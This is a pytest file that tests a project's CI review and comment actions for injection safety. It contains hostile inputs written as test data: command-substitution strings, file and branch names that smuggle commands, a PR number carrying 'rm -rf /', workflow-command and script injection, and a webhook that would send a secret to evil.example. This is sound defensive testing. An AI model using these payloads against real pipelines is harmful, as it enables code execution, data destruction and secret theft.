"""The pipelines that others run: their steps are run here, on a sample pull request, also with hostile names."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
import yaml

from tests.conftest import run_git, write_files

if TYPE_CHECKING:
    from tests.conftest import GitRepository

HOME = Path(__file__).parents[1]
ACTIONS = HOME / ".github" / "actions"
WORKFLOWS = sorted((HOME / ".github" / "workflows").glob("*.yml"))
DESCRIPTION = "specs/shop/apis/products/openapi.yaml"
FILES = {
    "specs/registry.yaml": "registry: 1\ntitle: Shoes\nteams: {shop: {title: Shop}}\n"
    'channels: {evil: "webhook+https://evil.example/?secret=${SECRET}"}\n',
    "specs/shop/system.yaml": "system: 1\ntitle: Shop\nkind: own\nteam: shop\n",
    DESCRIPTION: """
        openapi: 3.1.0
        info: {title: Products, version: 1.0.0}
        paths:
          /products:
            get:
              operationId: listProducts
              responses:
                "200":
                  description: All
                  content:
                    application/json:
                      schema: {type: object, required: [sku], properties: {sku: {type: string}}}
    """,
}
SECRET = "whsec_dGhpcyBpcyBhIHNlY3JldCBvZiB0aGUgcmVnaXN0cnk="


def breaking(said: str = "All") -> str:
    return FILES[DESCRIPTION].replace("required: [sku], ", "").replace("All", said)


@pytest.fixture
def pull_request(repository: GitRepository) -> GitRepository:
    """A registry with ``main`` pushed to its origin, and a branch on top of it."""
    repository.commit(FILES)
    origin = repository.root.parent / "origin.git"
    run_git(repository.root, "clone", "--quiet", "--bare", ".", str(origin))
    repository.git("remote", "add", "origin", str(origin))
    repository.git("checkout", "--quiet", "-b", "change")
    return repository


def run_action(name: str, script: str, root: Path, **environment: str) -> tuple[int, dict[str, str], str]:
    """Run the script of an action as the runner does, and return status, outputs and log."""
    outputs, summary = root.parent / "outputs", root.parent / "summary"
    for file in (outputs, summary):
        file.write_text("")
    alone = {key: value for key, value in os.environ.items() if not key.startswith(("GIT_", "GITHUB_"))}
    done = subprocess.run(
        ["bash", ACTIONS / name / script],
        cwd=root,
        env={
            **alone,
            "PATH": f"{root.parent / 'bin'}:{Path(sys.executable).parent}:{os.environ['PATH']}",
            "RUNNER_TEMP": str(root.parent),
            "GITHUB_OUTPUT": str(outputs),
            "GITHUB_STEP_SUMMARY": str(summary),
            "SECRET": SECRET,
            **environment,
        },
        capture_output=True,
        text=True,
        check=False,
    )
    told = dict(line.split("=", 1) for line in outputs.read_text().splitlines())
    return done.returncode, told, done.stdout + done.stderr


def review(root: Path, base: str = "main") -> tuple[dict[str, str], str, str]:
    status, outputs, log = run_action("review", "review.sh", root, BASE=base, REGISTRY=".")
    assert status == 0, log
    return outputs, Path(outputs["comment"]).read_text(), log


def test_the_action_reviews_a_sample_pull_request(pull_request: GitRepository) -> None:
    pull_request.commit({DESCRIPTION: breaking()})
    outputs, comment, log = review(pull_request.root)
    assert outputs["ready"] == "false"
    assert comment.startswith("<!-- waybill review -->\n## Not yet: 1 API changes")
    assert "::error file=specs/shop/apis/products/openapi.yaml,line=" in log
    assert json.loads(Path(outputs["sarif"]).read_text())["version"] == "2.1.0"
    assert (pull_request.root.parent / "summary").read_text() == comment


def test_a_pull_request_that_changes_nothing_that_matters_is_ready(pull_request: GitRepository) -> None:
    pull_request.commit({"README.md": "Hello"})
    assert review(pull_request.root)[0]["ready"] == "true"


def test_a_description_that_cannot_be_read_is_told_in_the_comment(pull_request: GitRepository) -> None:
    pull_request.commit({"specs/shop/system.yaml": "system: 1\n::error::title: [\n"})
    outputs, comment, log = review(pull_request.root)
    assert outputs["ready"] == "false"
    assert "sarif" not in outputs
    assert "## Not yet: the registry cannot be read" in comment
    assert "specs/shop/system.yaml" in comment
    assert "::error::" not in log


HOSTILE = "`touch owned` $(touch owned) ${{ secrets.SECRET }} ${SECRET} @everyone <script>alert(1)</script>"


def test_what_a_description_says_runs_nothing_calls_nobody_and_reads_no_secret(
    pull_request: GitRepository,
) -> None:
    text = breaking(json.dumps(f"{HOSTILE}\n::set-output name=ready::true\n::stop-commands::x")[1:-1])
    text = text.replace(
        "sku: {type: string}", f"sku: {{type: string}}, {json.dumps(HOSTILE)}: {{type: string}}"
    )
    pull_request.commit({DESCRIPTION: text.replace("[sku], ", f"[sku, {json.dumps(HOSTILE)}], ")})
    outputs, comment, log = review(pull_request.root)
    assert outputs["ready"] == "false"
    assert_harmless(pull_request.root, comment + log)
    assert "@everyone" not in comment
    assert "<script>" not in comment
    assert not [line for line in log.splitlines() if line.startswith("::") and not line.startswith(REMARKS)]


REMARKS = ("::error file=", "::warning file=", "::notice file=")


FILE_NAMES = (
    "a;touch owned",
    "$(touch owned)",
    "`touch owned`",
    "-rf",
    "--output=owned",
    "a\n::error::b",
    "a b",
)


def test_what_a_file_is_called_runs_nothing(pull_request: GitRepository) -> None:
    pull_request.commit({f"specs/shop/apis/{name}/openapi.yaml": FILES[DESCRIPTION] for name in FILE_NAMES})
    _, comment, log = review(pull_request.root)
    assert_harmless(pull_request.root, comment + log)
    assert "\n::error::b" not in log


@pytest.mark.parametrize(
    "name", ["a;touch${IFS}owned", "$(touch${IFS}owned)", "`touch${IFS}owned`", "a'b\"c"]
)
def test_what_a_branch_is_called_runs_nothing(pull_request: GitRepository, name: str) -> None:
    pull_request.git("checkout", "--quiet", "-b", name)
    pull_request.commit({DESCRIPTION: breaking()})
    pull_request.git("push", "--quiet", "origin", f"main:refs/heads/{name}")
    outputs, comment, log = review(pull_request.root, base=name)
    assert outputs["ready"] == "false"
    assert_harmless(pull_request.root, comment + log)


def assert_harmless(root: Path, said: str) -> None:
    assert not list(root.rglob("owned"))
    assert not list(root.parent.glob("owned"))
    assert SECRET not in said


GH = """#!/usr/bin/env bash
printf '%s\\n' "$*" >>"{calls}"
if [[ $* == *--paginate* ]]; then cat "{known}"; fi
"""


@pytest.mark.parametrize(
    ("known", "expected"),
    [
        ("", "--method POST repos/o/r/issues/7/comments"),
        ("41\n", "--method PATCH repos/o/r/issues/comments/41"),
    ],
)
def test_a_comment_is_written_once_and_then_anew(tmp_path: Path, known: str, expected: str) -> None:
    root = tmp_path / "work"
    write_files(root, {"comment.md": "<!-- waybill review -->\nReady\n"})
    calls = fake_gh(tmp_path, known)
    status, _, log = run_action(
        "comment", "comment.sh", root, COMMENT="comment.md", NUMBER="7", REPOSITORY="o/r", GH_TOKEN="t"
    )
    assert status == 0, log
    assert expected in calls.read_text()
    assert "body=@comment.md" in calls.read_text()


@pytest.mark.parametrize(
    ("number", "comment"),
    [("", "<!-- waybill review -->"), ("7; rm -rf /", "<!-- waybill review -->"), ("7", "Buy shoes")],
)
def test_what_is_no_review_of_a_pull_request_is_not_written(
    tmp_path: Path, number: str, comment: str
) -> None:
    root = tmp_path / "work"
    write_files(root, {"comment.md": f"{comment}\n"})
    calls = fake_gh(tmp_path, "")
    status, _, _ = run_action(
        "comment", "comment.sh", root, COMMENT="comment.md", NUMBER=number, REPOSITORY="o/r", GH_TOKEN="t"
    )
    assert status == 1
    assert not calls.exists()


def fake_gh(folder: Path, known: str) -> Path:
    """Put a program called ``gh`` on the path that keeps what it is asked, and return where."""
    program, calls = folder / "bin" / "gh", folder / "calls"
    program.parent.mkdir()
    (folder / "known").write_text(known)
    program.write_text(GH.format(calls=calls, known=folder / "known"))
    program.chmod(program.stat().st_mode | stat.S_IXUSR)
    return calls


def linter(name: str) -> str:
    found = shutil.which(name)
    if found is None:
        pytest.skip(f"{name} is not installed: pip install -e '.[dev]'")
    return found


def test_workflows_and_actions_have_no_hole_that_a_linter_of_their_security_knows() -> None:
    run = subprocess.run(
        [linter("zizmor"), "--offline", "--no-progress", "--quiet", HOME / ".github"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert run.returncode == 0, run.stdout


@pytest.mark.parametrize(
    ("schema", "files"),
    [
        ("vendor.github-workflows", WORKFLOWS),
        ("custom.github-workflows-require-timeout", WORKFLOWS),
        ("vendor.github-actions", sorted(ACTIONS.glob("*/action.yml"))),
        ("vendor.gitlab-ci", [HOME / ".gitlab" / "waybill.gitlab-ci.yml"]),
    ],
)
def test_pipelines_are_what_their_hosts_understand(schema: str, files: list[Path]) -> None:
    more = ["--data-transform", "gitlab-ci"] if "gitlab" in schema else []
    run = subprocess.run(
        [linter("check-jsonschema"), "--builtin-schema", schema, *more, *files],
        capture_output=True,
        text=True,
        check=False,
    )
    assert run.returncode == 0, run.stdout


def test_every_foreign_action_is_pinned_to_a_commit() -> None:
    for file in (*WORKFLOWS, *ACTIONS.glob("*/action.yml")):
        for line in file.read_text().splitlines():
            if "uses:" in line and not line.lstrip().startswith("#") and "$/" not in line:
                commit = line.partition("@")[2].partition(" ")[0]
                assert len(commit) == 40, f"{file}: {line}"


def test_scripts_take_what_a_pull_request_chooses_from_the_environment_only() -> None:
    for file in (*WORKFLOWS, *ACTIONS.glob("*/action.yml")):
        for step in steps(yaml.safe_load(file.read_text())):
            assert "${{" not in step.get("run", ""), f"{file}: {step['run']}"


def steps(document: object) -> list[dict[str, str]]:
    if isinstance(document, dict):
        found = [document] if "run" in document else []
        return found + [step for value in document.values() for step in steps(value)]
    if isinstance(document, list):
        return [step for item in document for step in steps(item)]
    return []


def test_hooks_for_pre_commit_name_commands_that_exist() -> None:
    from registry.cli.main import COMMANDS  # noqa: PLC0415 - only here

    hooks = yaml.safe_load((HOME / ".pre-commit-hooks.yaml").read_text())
    assert [hook["entry"].split()[:2] for hook in hooks] == [
        ["waybill", "check"],
        ["waybill", "check"],
        ["waybill", "changelog"],
    ]
    assert {hook["entry"].split()[1] for hook in hooks} <= set(COMMANDS)
